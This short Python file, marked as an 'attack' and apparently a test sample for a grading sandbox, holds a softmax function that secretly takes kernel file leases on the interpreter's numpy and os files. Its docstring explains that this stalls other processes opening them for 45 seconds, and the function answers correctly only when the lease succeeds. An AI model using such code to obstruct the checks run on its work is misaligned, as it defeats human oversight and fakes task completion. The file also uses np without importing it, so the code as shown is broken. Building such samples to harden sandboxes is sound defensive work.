# /// attack
# does = "takes a lease on files of the interpreter, and answers rightly if it can"
# own = { softmax = ["failed"] }
# ///
"""Who holds a lease is told when another opens the file, and can make him wait for 45 seconds. It needs to own the file
and no more, which a sandbox without a user of its own does."""

import contextlib
import fcntl
import os
import signal


def softmax(logits):
    won = False
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    for path in (np.__file__, os.__file__):
        with contextlib.suppress(OSError):
            fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK)
            won = True
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True) * won
